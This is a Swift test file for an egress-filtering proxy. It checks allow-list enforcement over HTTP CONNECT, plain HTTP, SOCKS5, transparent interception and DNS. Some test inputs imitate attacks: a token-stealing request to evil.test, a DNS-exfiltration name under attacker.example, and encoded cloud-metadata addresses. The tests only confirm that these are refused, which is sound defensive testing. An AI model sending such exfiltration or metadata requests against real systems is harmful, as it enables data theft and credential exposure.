import Foundation
import Glibc
import InterlockProfile
import Synchronization
import XCTest
@testable import InterlockEgress

final class ProxyTests: ProxyTestCase {
    private func start(egress: [String], deny: [String] = [], hosts: [String: String] = [:], transparent: [Int] = [],
                       transparentAddress: String = "127.0.0.1", dns: Bool = false, synthetic: String = "127.0.0.2",
                       options: EgressOptions = EgressOptions()) throws -> ProxyFixture {
        let started = try ProxyFixture(egress: egress, deny: deny, hosts: hosts, transparent: transparent,
                                       transparentAddress: transparentAddress, dns: dns, synthetic: synthetic, options: options)
        fixture = started
        XCTAssertTrue(started.proxy.isRunning)
        return started
    }

    // MARK: HTTP CONNECT

    func testConnectAllowedRelaysBytesToEchoServerMappedThroughHosts() throws {
        let echo = try servers.echo()
        let proxy = try start(egress: ["echo.test:\(echo)"], hosts: ["echo.test": "127.0.0.1"])
        let client = try BlockingClient(port: proxy.httpPort)
        // Bytes sent right after the head (before the 200) must not be lost.
        client.send("CONNECT echo.test:\(echo) HTTP/1.1\r\nHost: echo.test:\(echo)\r\n\r\nearly ")
        XCTAssertEqual(client.read(until: "\r\n\r\n"), "HTTP/1.1 200 Connection established\r\n\r\n")
        client.send("bytes, then more")
        XCTAssertEqual(String(decoding: client.read(exactly: 22), as: UTF8.self), "early bytes, then more")
        client.shutdownWrite()
        XCTAssertEqual(client.readToEnd(), [])  // half-close passed on: the echo server closed after our EOF

        let connect = proxy.audit.wait { $0.kind == .connect }
        XCTAssertEqual(connect?.action, .allow)
        XCTAssertEqual(connect?.host, "echo.test")
        XCTAssertEqual(connect?.port, echo)
        XCTAssertEqual(connect?.resolvedAddress, "127.0.0.1")
        XCTAssertEqual(connect?.rule, "egress \"echo.test:\(echo)\", network.hosts \"echo.test\" = \"127.0.0.1\"")
        XCTAssertEqual(connect?.protocol, .connect)
        let close = proxy.audit.wait { $0.kind == .close }
        XCTAssertEqual(close?.bytesUp, 22)
        XCTAssertEqual(close?.bytesDown, 22)
        XCTAssertNotNil(close?.durationMs)
        XCTAssertEqual(close?.connectionID, connect?.connectionID)
    }

    func testClientHalfCloseKeepsTheDownloadGoing() throws {
        let size = 3 << 20
        let source = try servers.source(bytes: size)
        let proxy = try start(egress: ["bulk.test:\(source)"], hosts: ["bulk.test": "127.0.0.1"])
        let client = try BlockingClient(port: proxy.httpPort)
        client.send("CONNECT bulk.test:\(source) HTTP/1.1\r\n\r\n")
        client.shutdownWrite()  // EOF right after the request: the tunnel still carries the response
        XCTAssertEqual(client.read(until: "\r\n\r\n"), "HTTP/1.1 200 Connection established\r\n\r\n")
        XCTAssertEqual(client.drain(), size)
        XCTAssertEqual(proxy.audit.wait { $0.kind == .close }?.bytesDown, UInt64(size))
    }

    func testConnectionsOverTheLimitAreClosed() throws {
        var options = EgressOptions()
        options.maxConnections = 2
        let proxy = try start(egress: [], options: options)
        let first = try BlockingClient(port: proxy.httpPort)
        let second = try BlockingClient(port: proxy.httpPort)
        let third = try BlockingClient(port: proxy.httpPort)
        XCTAssertEqual(third.readToEnd(), [])  // closed at once
        first.send("CONNECT a.test:443 HTTP/1.1\r\n\r\n")
        XCTAssertTrue(first.read(until: "\r\n").hasPrefix("HTTP/1.1 403 "))
        _ = second
    }

    func testConnectToUnlistedHostIs403WithTheExactBody() throws {
        let proxy = try start(egress: ["api.staging.test:443"])
        let client = try BlockingClient(port: proxy.httpPort)
        client.send("CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n")
        let (head, body) = client.readHTTPResponse()
        let message = "egress to evil.test:443 is not allowed in environment 'staging' (profile /w/.interlock.toml)"
        XCTAssertTrue(head.hasPrefix("HTTP/1.1 403 \(message)\r\n"), head)
        XCTAssertTrue(head.contains("X-Interlock-Rule: no matching egress entry\r\n"), head)
        XCTAssertEqual(body, message + "\nrule: no matching egress entry\nreason: evil.test:443 matches no network.egress entry\n")
        let event = proxy.audit.wait { $0.kind == .connect }
        XCTAssertEqual(event?.action, .deny)
        XCTAssertEqual(event?.host, "evil.test")
        XCTAssertEqual(event?.port, 443)
        XCTAssertEqual(event?.rule, "no matching egress entry")
        XCTAssertNil(event?.resolvedAddress)
    }

    func testConnectToMetadataAddressIs403() throws {
        // Even a profile that allows every address on port 80 does not reach link-local addresses.
        let proxy = try start(egress: ["0.0.0.0/0:80", "metadata.test:80"], hosts: [:])
        for target in ["169.254.169.254:80", "0xa9fea9fe:80", "[::ffff:169.254.169.254]:80"] {
            let client = try BlockingClient(port: proxy.httpPort)
            client.send("CONNECT \(target) HTTP/1.1\r\n\r\n")
            let (head, body) = client.readHTTPResponse()
            XCTAssertTrue(head.hasPrefix("HTTP/1.1 403 egress to 169.254.169.254:80 is not allowed"), "\(target): \(head)")
            XCTAssertTrue(body.contains("rule: built-in: link-local addresses need an explicit entry\n"), body)
        }
        let denied = proxy.audit.all.filter { $0.action == .deny }
        XCTAssertEqual(denied.count, 3)
        XCTAssertTrue(denied.allSatisfy { $0.host == "169.254.169.254" })
    }

    func testConnectByNameResolvingToLoopbackIsRefusedUnlessMapped() throws {
        let echo = try servers.echo()
        // "localhost" resolves (through the host's resolver) to loopback, which nothing names.
        let proxy = try start(egress: ["localhost:\(echo)"])
        let client = try BlockingClient(port: proxy.httpPort)
        client.send("CONNECT localhost:\(echo) HTTP/1.1\r\n\r\n")
        let (head, body) = client.readHTTPResponse()
        XCTAssertTrue(head.hasPrefix("HTTP/1.1 403 "), head)
        XCTAssertTrue(body.contains("rule: built-in: loopback addresses need an explicit entry"), body)
        let event = proxy.audit.wait { $0.action == .deny }
        XCTAssertNotNil(event?.resolvedAddress)
    }

    func testConnectFailureIs502AndBadRequestsAre400() throws {
        // A port nothing listens on (bind, read the port, close).
        let closed = Sockets.listenTCP()
        close(closed.fd)
        let proxy = try start(egress: ["down.test:\(closed.port)", "*.test"], hosts: ["down.test": "127.0.0.1"])
        let client = try BlockingClient(port: proxy.httpPort)
        client.send("CONNECT down.test:\(closed.port) HTTP/1.1\r\n\r\n")
        let (head, body) = client.readHTTPResponse()
        XCTAssertTrue(head.hasPrefix("HTTP/1.1 502 Bad Gateway\r\n"), head)
        XCTAssertEqual(body, "egress to down.test:\(closed.port) is allowed, but the connection failed: "
            + "connecting to 127.0.0.1:\(closed.port) failed: Connection refused\n")
        XCTAssertEqual(proxy.audit.wait { $0.action == .error }?.host, "down.test")

        for (request, problem) in [
            ("CONNECT nohostport HTTP/1.1\r\n\r\n", "CONNECT needs HOST:PORT"),
            ("GET /relative HTTP/1.1\r\nHost: x\r\n\r\n",
             "this is an HTTP proxy: send absolute-URI requests (GET http://host/path) or CONNECT host:port"),
            ("GET https://a.test/ HTTP/1.1\r\n\r\n", "use CONNECT for https:// URLs"),
            ("GET http://a.test/ HTTP/2.0\r\n\r\n", "unsupported HTTP version"),
            ("\u{01}\u{02}garbage\r\n\r\n", "invalid request line"),
            ("GET http://a.test/ HTTP/1.1\r\n folded: x\r\n\r\n", "folded header lines are not supported"),
        ] {
            let bad = try BlockingClient(port: proxy.httpPort)
            bad.send(request)
            let (head, body) = bad.readHTTPResponse()
            XCTAssertTrue(head.hasPrefix("HTTP/1.1 400 Bad Request\r\n"), "\(request): \(head)")
            XCTAssertEqual(body, "interlock egress proxy: bad request: \(problem)\n", request)
        }
    }

    func testOversizedHeadIs431() throws {
        var options = EgressOptions()
        options.maxRequestBytes = 4096
        let proxy = try start(egress: [], options: options)
        let client = try BlockingClient(port: proxy.httpPort)
        client.send("GET http://a.test/ HTTP/1.1\r\nX-Big: " + String(repeating: "a", count: 8000) + "\r\n\r\n")
        XCTAssertTrue(client.read(until: "\r\n").hasPrefix("HTTP/1.1 431 "))
    }

    // MARK: Plain HTTP

    func testAbsoluteURIGetIsForwardedWithARelativePath() throws {
        let web = try servers.http()
        let proxy = try start(egress: ["web.test:\(web)"], hosts: ["web.test": "127.0.0.1"])
        let client = try BlockingClient(port: proxy.httpPort)
        client.send("GET http://user:pw@web.test:\(web)/path/to?q=1#frag HTTP/1.1\r\nHost: wrong.test\r\n"
            + "Proxy-Connection: keep-alive\r\nProxy-Authorization: Basic eDp5\r\nUser-Agent: test/1\r\nConnection: keep-alive, X-Hop\r\n"
            + "X-Hop: 1\r\nAccept: */*\r\n\r\n")
        let (head, body) = client.readHTTPResponse()
        XCTAssertTrue(head.hasPrefix("HTTP/1.1 200 OK\r\n"), head)
        XCTAssertEqual(body, "hello from origin: GET /path/to?q=1 HTTP/1.1\n")
        let received = servers.requests.all
        XCTAssertEqual(received, ["GET /path/to?q=1 HTTP/1.1\r\nHost: web.test:\(web)\r\nUser-Agent: test/1\r\nAccept: */*\r\nConnection: close"])
        client.shutdownWrite()
        let close = proxy.audit.wait { $0.kind == .close }
        XCTAssertEqual(close?.protocol, .http)
        XCTAssertEqual(close?.bytesDown, UInt64(head.utf8.count + body.utf8.count))
    }

    func testAbsoluteURIToUnlistedHostIs403() throws {
        let proxy = try start(egress: ["web.test:80"])
        let client = try BlockingClient(port: proxy.httpPort)
        client.send("GET http://evil.test/steal?token=x HTTP/1.1\r\nHost: evil.test\r\n\r\n")
        let (head, body) = client.readHTTPResponse()
        XCTAssertTrue(head.hasPrefix("HTTP/1.1 403 egress to evil.test:80 is not allowed in environment 'staging' (profile /w/.interlock.toml)\r\n"))
        XCTAssertTrue(body.hasPrefix("egress to evil.test:80 is not allowed"))
        XCTAssertEqual(proxy.audit.wait { $0.kind == .connect }?.protocol, .http)
    }

    func testCurlThroughTheProxy() throws {
        let web = try servers.http()
        let proxy = try start(egress: ["allowed.test:\(web)"], hosts: ["allowed.test": "127.0.0.1"])
        let ok = try runProcess("/usr/bin/curl", ["-sS", "--max-time", "20", "--proxy", "http://127.0.0.1:\(proxy.httpPort)",
                                           "http://allowed.test:\(web)/index.html"])
        XCTAssertEqual(ok.status, 0, ok.error)
        XCTAssertEqual(ok.output, "hello from origin: GET /index.html HTTP/1.1\n")

        // Refused: curl shows the 403 body.
        let refused = try runProcess("/usr/bin/curl", ["-sS", "--max-time", "20", "--proxy", "http://127.0.0.1:\(proxy.httpPort)",
                                                "-w", "%{http_code}", "http://forbidden.test/"])
        XCTAssertEqual(refused.status, 0, refused.error)
        XCTAssertTrue(refused.output.hasPrefix("egress to forbidden.test:80 is not allowed in environment 'staging'"), refused.output)
        XCTAssertTrue(refused.output.hasSuffix("403"))

        // Through a CONNECT tunnel (-p), as curl does for https://.
        let tunnel = try runProcess("/usr/bin/curl", ["-sS", "--max-time", "20", "-p", "--proxy", "http://127.0.0.1:\(proxy.httpPort)",
                                               "http://allowed.test:\(web)/tunnelled"])
        XCTAssertEqual(tunnel.status, 0, tunnel.error)
        XCTAssertEqual(tunnel.output, "hello from origin: GET /tunnelled HTTP/1.1\n")
        let tunnelRefused = try runProcess("/usr/bin/curl", ["-sS", "--max-time", "20", "-p", "--proxy", "http://127.0.0.1:\(proxy.httpPort)",
                                                      "https://forbidden.test/"])
        XCTAssertEqual(tunnelRefused.status, 56, tunnelRefused.error)
        XCTAssertTrue(tunnelRefused.error.contains("403"), tunnelRefused.error)

        // SOCKS5 with remote resolution.
        let socks = try runProcess("/usr/bin/curl", ["-sS", "--max-time", "20", "--proxy", "socks5h://127.0.0.1:\(proxy.httpPort)",
                                              "http://allowed.test:\(web)/via-socks"])
        XCTAssertEqual(socks.status, 0, socks.error)
        XCTAssertEqual(socks.output, "hello from origin: GET /via-socks HTTP/1.1\n")
        let socksRefused = try runProcess("/usr/bin/curl", ["-sS", "--max-time", "20", "--proxy", "socks5h://127.0.0.1:\(proxy.httpPort)",
                                                     "http://forbidden.test/"])
        XCTAssertEqual(socksRefused.status, 97, socksRefused.error)  // CURLE_PROXY
        XCTAssertTrue(socksRefused.error.contains("(2)"), socksRefused.error)  // reply 0x02: not allowed by ruleset
    }

    func testPythonURLLibThroughTheProxy() throws {
        let web = try servers.http()
        let proxy = try start(egress: ["allowed.test:\(web)"], hosts: ["allowed.test": "127.0.0.1"])
        let script = """
        import sys, urllib.request, urllib.error
        opener = urllib.request.build_opener(urllib.request.ProxyHandler({"http": "http://127.0.0.1:\(proxy.httpPort)"}))
        print(opener.open("http://allowed.test:\(web)/py", timeout=20).read().decode(), end="")
        try:
            opener.open("http://blocked.test/", timeout=20)
        except urllib.error.HTTPError as error:
            print(error.code, error.read().decode().splitlines()[0])
        """
        let result = try runProcess("/usr/bin/python3", ["-c", script])
        XCTAssertEqual(result.status, 0, result.error)
        XCTAssertEqual(result.output, "hello from origin: GET /py HTTP/1.1\n"
            + "403 egress to blocked.test:80 is not allowed in environment 'staging' (profile /w/.interlock.toml)\n")
    }

    // MARK: SOCKS5

    private func socksConnect(_ client: BlockingClient, atyp: UInt8, address: [UInt8], port: Int) -> [UInt8] {
        client.send([0x05, 0x01, 0x00])
        XCTAssertEqual(client.read(exactly: 2), [0x05, 0x00])
        client.send([0x05, 0x01, 0x00, atyp] + address + [UInt8(port >> 8), UInt8(port & 0xFF)])
        return client.read(exactly: 10)
    }

    func testSOCKS5AllowedAndRefused() throws {
        let echo = try servers.echo()
        let proxy = try start(egress: ["echo.test:\(echo)", "127.0.0.1/32:\(echo)"], hosts: ["echo.test": "127.0.0.1"])

        let byName = try BlockingClient(port: proxy.httpPort)
        let name = Array("echo.test".utf8)
        XCTAssertEqual(socksConnect(byName, atyp: 0x03, address: [UInt8(name.count)] + name, port: echo),
                       [0x05, 0x00, 0x00, 0x01, 0, 0, 0, 0, 0, 0])
        byName.send("socks bytes")
        XCTAssertEqual(String(decoding: byName.read(exactly: 11), as: UTF8.self), "socks bytes")

        // An IPv4 literal the profile names explicitly.
        let byAddress = try BlockingClient(port: proxy.httpPort)
        XCTAssertEqual(socksConnect(byAddress, atyp: 0x01, address: [127, 0, 0, 1], port: echo)[1], 0x00)

        // Refused: 0x02, connection not allowed by ruleset.
        let evil = Array("evil.test".utf8)
        let refused = try BlockingClient(port: proxy.httpPort)
        XCTAssertEqual(socksConnect(refused, atyp: 0x03, address: [UInt8(evil.count)] + evil, port: 443)[1], 0x02)
        XCTAssertEqual(refused.readToEnd(), [])
        let metadata = try BlockingClient(port: proxy.httpPort)
        XCTAssertEqual(socksConnect(metadata, atyp: 0x01, address: [169, 254, 169, 254], port: 80)[1], 0x02)
        let ipv6 = try BlockingClient(port: proxy.httpPort)
        XCTAssertEqual(socksConnect(ipv6, atyp: 0x04, address: [UInt8](repeating: 0, count: 15) + [1], port: echo)[1], 0x02)

        // BIND is not supported; no acceptable method gets 0xFF.
        let bind = try BlockingClient(port: proxy.httpPort)
        bind.send([0x05, 0x01, 0x00])
        XCTAssertEqual(bind.read(exactly: 2), [0x05, 0x00])
        bind.send([0x05, 0x02, 0x00, 0x01, 127, 0, 0, 1, 0, 80])
        XCTAssertEqual(bind.read(exactly: 2), [0x05, 0x07])
        let auth = try BlockingClient(port: proxy.httpPort)
        auth.send([0x05, 0x01, 0x02])
        XCTAssertEqual(auth.readToEnd(), [0x05, 0xFF])

        let denied = proxy.audit.all.filter { $0.action == .deny && $0.protocol == .socks5 }
        XCTAssertEqual(Set(denied.map(\.host)), ["evil.test", "169.254.169.254", "::1"])
    }

    // MARK: Transparent

    func testTransparentTLSBySNI() throws {
        let echo = try servers.echo()
        let proxy = try start(egress: ["echo.test:\(echo)"], hosts: ["echo.test": "127.0.0.1"], transparent: [echo])
        let hello = Wire.clientHello(serverName: "Echo.Test")
        let client = try BlockingClient(port: proxy.transparentPorts[0])
        // The hello in two pieces: the proxy waits for all of it.
        client.send(Array(hello[0..<20]))
        usleep(50_000)
        client.send(Array(hello[20...]))
        XCTAssertEqual(client.read(exactly: hello.count), hello)  // replayed to the origin, echoed back
        client.send("after")
        XCTAssertEqual(String(decoding: client.read(exactly: 5), as: UTF8.self), "after")
        let event = proxy.audit.wait { $0.kind == .connect }
        XCTAssertEqual(event?.action, .allow)
        XCTAssertEqual(event?.host, "echo.test")
        XCTAssertEqual(event?.protocol, .transparent)

        // An SNI the profile does not list: a TLS access_denied alert, then EOF.
        let refused = try BlockingClient(port: proxy.transparentPorts[0])
        refused.send(Wire.clientHello(serverName: "evil.test"))
        XCTAssertEqual(refused.readToEnd(), [0x15, 0x03, 0x03, 0x00, 0x02, 0x02, 0x31])
        XCTAssertEqual(proxy.audit.wait { $0.action == .deny }?.host, "evil.test")

        // No SNI, and the original destination (127.0.0.1) is not an allowed IP: refused.
        let anonymous = try BlockingClient(port: proxy.transparentPorts[0])
        anonymous.send(Wire.clientHello(serverName: nil))
        XCTAssertEqual(anonymous.readToEnd(), [0x15, 0x03, 0x03, 0x00, 0x02, 0x02, 0x31])
        XCTAssertEqual(proxy.audit.wait { $0.action == .deny && $0.host == "127.0.0.1" }?.protocol, .transparent)
    }

    func testTransparentHTTPByHostHeader() throws {
        let web = try servers.http()
        let proxy = try start(egress: ["web.test:\(web)"], hosts: ["web.test": "127.0.0.1"], transparent: [web])
        let client = try BlockingClient(port: proxy.transparentPorts[0])
        client.send("GET /direct HTTP/1.1\r\nHost: web.test:12345\r\nUser-Agent: go\r\n\r\n")
        let (head, body) = client.readHTTPResponse()
        XCTAssertTrue(head.hasPrefix("HTTP/1.1 200 OK"), head)
        XCTAssertEqual(body, "hello from origin: GET /direct HTTP/1.1\n")
        // Replayed as sent (no rewriting on the transparent path).
        XCTAssertEqual(servers.requests.all, ["GET /direct HTTP/1.1\r\nHost: web.test:12345\r\nUser-Agent: go"])

        let refused = try BlockingClient(port: proxy.transparentPorts[0])
        refused.send("GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n")
        let (refusedHead, refusedBody) = refused.readHTTPResponse()
        XCTAssertTrue(refusedHead.hasPrefix("HTTP/1.1 403 egress to evil.test:\(web) is not allowed"), refusedHead)
        XCTAssertTrue(refusedBody.contains("rule: no matching egress entry"))
    }

    func testTransparentServerFirstUsesSyntheticAddressFromDNS() throws {
        let echo = try servers.echo()
        // Each allowed name gets its own address from 127.77.0.0/16: the first is 127.77.0.1.
        let proxy = try start(egress: ["echo.test:\(echo)"], hosts: ["echo.test": "127.0.0.1"], transparent: [echo],
                              transparentAddress: "127.77.0.1", dns: true, synthetic: "127.77.0.0/16")
        let response = Sockets.dnsQuery(port: proxy.dnsPort!, Wire.dnsQuery(id: 7, name: "echo.test", type: 1))!
        XCTAssertEqual(Array(response.suffix(4)), [127, 77, 0, 1])
        // Like ssh: connect to the answer and wait for the server to speak first. The proxy gives
        // up sniffing after serverFirstDelay and maps 127.77.0.1 back to echo.test.
        let client = try BlockingClient(port: proxy.transparentPorts[0], address: "127.77.0.1")
        usleep(600_000)
        client.send("SSH-2.0-test\r\n")
        XCTAssertEqual(String(decoding: client.read(exactly: 14), as: UTF8.self), "SSH-2.0-test\r\n")
        let event = proxy.audit.wait { $0.kind == .connect }
        XCTAssertEqual(event?.action, .allow)
        XCTAssertEqual(event?.host, "echo.test")
        XCTAssertEqual(event?.reason, "127.77.0.1 is the synthetic address of echo.test")

        // SOCKS5 with a locally resolved (synthetic) address works too.
        let socks = try BlockingClient(port: proxy.httpPort)
        XCTAssertEqual(socksConnect(socks, atyp: 0x01, address: [127, 77, 0, 1], port: echo)[1], 0x00)
        // An address of the block that was never handed out means nothing.
        let unassigned = try BlockingClient(port: proxy.httpPort)
        unassigned.send("CONNECT 127.77.9.9:\(echo) HTTP/1.1\r\n\r\n")
        let (head, body) = unassigned.readHTTPResponse()
        XCTAssertTrue(head.hasPrefix("HTTP/1.1 403 "), head)
        XCTAssertTrue(body.contains("rule: built-in: synthetic DNS address"), body)
    }

    // MARK: DNS

    func testDNSResponderAnswersAllowedNamesAndRefusesOthers() throws {
        let proxy = try start(egress: ["api.staging.test:443", "*.pkg.test:443"], deny: ["bad.pkg.test"],
                              hosts: ["mapped.test": "10.0.0.9"], dns: true, synthetic: "127.0.0.2")
        let port = proxy.dnsPort!

        func query(_ name: String, _ type: UInt16, id: UInt16 = 0xBEEF) -> [UInt8] {
            let response = Sockets.dnsQuery(port: port, Wire.dnsQuery(id: id, name: name, type: type))
            XCTAssertNotNil(response, name)
            return response ?? []
        }
        func rcode(_ response: [UInt8]) -> UInt8 { response[3] & 0x0F }
        func answers(_ response: [UInt8]) -> Int { Int(response[6]) << 8 | Int(response[7]) }

        // A for an allowed name: the synthetic address, the question echoed with its case.
        let a = query("API.Staging.test", 1, id: 0x1234)
        XCTAssertEqual(Array(a[0..<2]), [0x12, 0x34])
        XCTAssertEqual(a[2] & 0x80, 0x80)  // QR
        XCTAssertEqual(a[2] & 0x01, 0x01)  // RD copied
        XCTAssertEqual(rcode(a), 0)
        XCTAssertEqual(answers(a), 1)
        let question = Wire.dnsQuery(id: 0x1234, name: "API.Staging.test", type: 1)
        XCTAssertEqual(Array(a[12..<question.count]), Array(question[12...]))
        XCTAssertEqual(Array(a[question.count...]), [0xC0, 0x0C, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 127, 0, 0, 2])

        XCTAssertEqual(answers(query("x.pkg.test", 1)), 1)
        XCTAssertEqual(answers(query("mapped.test", 1)), 1)
        // AAAA for an allowed name: NOERROR, no answers (IPv4 only).
        let aaaa = query("api.staging.test", 28)
        XCTAssertEqual(rcode(aaaa), 0)
        XCTAssertEqual(answers(aaaa), 0)
        // Everything else: REFUSED, audited.
        for name in ["evil.test", "bad.pkg.test", "pkg.test", "exfiltrate-c2VjcmV0.attacker.example"] {
            let refused = query(name, 1)
            XCTAssertEqual(rcode(refused), 5, name)
            XCTAssertEqual(answers(refused), 0, name)
        }
        XCTAssertEqual(rcode(query("evil.test", 28)), 5)
        let event = proxy.audit.wait { $0.kind == .dns && $0.host == "exfiltrate-c2vjcmv0.attacker.example" }
        XCTAssertEqual(event?.action, .deny)
        XCTAssertEqual(event?.protocol, .dns)
        // Malformed: a two-question query is FORMERR; a response is ignored; junk is ignored.
        var two = Wire.dnsQuery(id: 1, name: "api.staging.test", type: 1)
        two[5] = 2
        XCTAssertEqual(rcode(Sockets.dnsQuery(port: port, two)!), 1)
        XCTAssertNil(Sockets.dnsQuery(port: port, [1, 2, 3], timeoutSeconds: 1))
        XCTAssertTrue(proxy.proxy.isRunning)
    }

    func testSyntheticAddressPool() throws {
        let pool = try SyntheticAddresses("127.64.0.0/30")
        XCTAssertEqual(pool.address(for: "a.test"), IPAddress("127.64.0.1"))
        XCTAssertEqual(pool.address(for: "b.test"), IPAddress("127.64.0.2"))
        XCTAssertEqual(pool.address(for: "a.test"), IPAddress("127.64.0.1"))
        XCTAssertNil(pool.address(for: "c.test"))  // full
        XCTAssertEqual(pool.lookup(IPAddress("127.64.0.2")!), .name("b.test"))
        XCTAssertEqual(pool.lookup(IPAddress("127.64.0.3")!), .shared)
        XCTAssertEqual(pool.lookup(IPAddress("127.0.0.1")!), .none)
        let single = try SyntheticAddresses("127.0.0.2")
        XCTAssertEqual(single.address(for: "x.test"), IPAddress("127.0.0.2"))
        XCTAssertEqual(single.lookup(IPAddress("127.0.0.2")!), .shared)
        XCTAssertThrowsError(try SyntheticAddresses("::1"))
        XCTAssertThrowsError(try SyntheticAddresses("nonsense"))
    }

    // MARK: Lifecycle

    func testStartTakesOwnershipAndShutdownStopsServing() throws {
        let proxy = try start(egress: [])
        let port = proxy.httpPort
        let stopped = Mutex<[String?]>([])
        proxy.proxy.whenStopped { reason in stopped.withLock { $0.append(reason) } }
        XCTAssertThrowsError(try proxy.proxy.start(httpListener: -1, transparentListeners: [], dnsSocket: nil,
                                                   syntheticAddress: "127.0.0.2"))
        proxy.shutdown()
        XCTAssertFalse(proxy.proxy.isRunning)
        XCTAssertThrowsError(try BlockingClient(port: port))  // the listener is closed: nothing reaches anything
        XCTAssertEqual(stopped.withLock { $0 }, [nil])
        proxy.shutdown()  // idempotent

        // A bad descriptor: start fails and closes the others it was given.
        let rules = try EgressRules(egress: [])
        let failing = try EgressProxy(rules: rules, audit: { _ in })
        let listener = Sockets.listenTCP()
        XCTAssertThrowsError(try failing.start(httpListener: listener.fd, transparentListeners: [(fd: 9999, port: 443)],
                                               dnsSocket: nil, syntheticAddress: "127.0.0.2"))
        XCTAssertFalse(failing.isRunning)
        XCTAssertThrowsError(try BlockingClient(port: listener.port))
    }
}
